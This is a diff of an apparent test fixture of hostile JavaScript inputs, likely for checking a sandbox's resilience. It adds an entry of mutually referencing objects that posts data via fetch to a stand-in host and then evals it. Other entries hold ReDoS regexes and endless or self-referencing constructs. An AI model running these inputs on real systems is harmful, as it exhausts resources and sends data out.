@@ -20,6 +20,8 @@ const HOSTILE: Record<string, string> = {
     'eval(/^(a+)+$/.test("a".repeat(40) + "!")); /^(?:(?:a+)b?)+$/.test("a".repeat(60) + "!"); /a*a*a*a*a*a*b/.test("a".repeat(399)); /(a|aa)+$/.test("a".repeat(60) + "!"); /(?=a)(a+)+b/.test("a".repeat(40)); /^(a{1,30}){1,30}$/.test("a".repeat(50) + "!")',
   'objects that hold themselves':
     'const a = {}; a.a = a; Object.setPrototypeOf(a, a); a.x; eval(JSON.stringify(a)); const l = []; l.push(l); eval(String(l) + l.flat(Infinity));',
+  'objects that hold one another':
+    'const all = []; for (let i = 0; i < 40; i++) all.push({ i }); for (const a of all) for (const b of all) a["k" + b.i] = b; fetch("https://h.example", { body: all[0] }); eval(JSON.stringify(all[0]));',
   'code that evaluates itself': 'var s = "eval(s)"; eval(s);',
   'a generator without end': 'function* g() { while (true) yield 1; } eval([...g()].length);',
   'a getter that asks itself': 'const o = { get a() { return this.a; } }; eval(o.a);',
